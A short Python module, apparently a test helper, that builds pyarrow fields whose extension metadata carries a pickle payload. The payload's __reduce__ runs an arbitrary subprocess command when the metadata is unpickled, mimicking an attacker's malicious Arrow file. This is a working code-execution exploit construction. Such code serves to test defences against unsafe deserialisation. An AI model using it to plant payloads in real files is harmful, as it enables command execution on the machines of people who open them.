"""Arrow fields whose extension type is a pickle that runs a command, as in an attacker's file."""

import pickle
import subprocess

import pyarrow as pa


class _Command:
    def __init__(self, *words):
        self.words = words

    def __reduce__(self):
        return subprocess.call, (list(self.words),)


def field(name, kind, *command):
    """Return such a field; in a file, only its metadata marks the type, for all versions of pyarrow."""
    metadata = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": pickle.dumps(_Command(*command)),
    }
    return pa.field(name, kind, metadata=metadata)
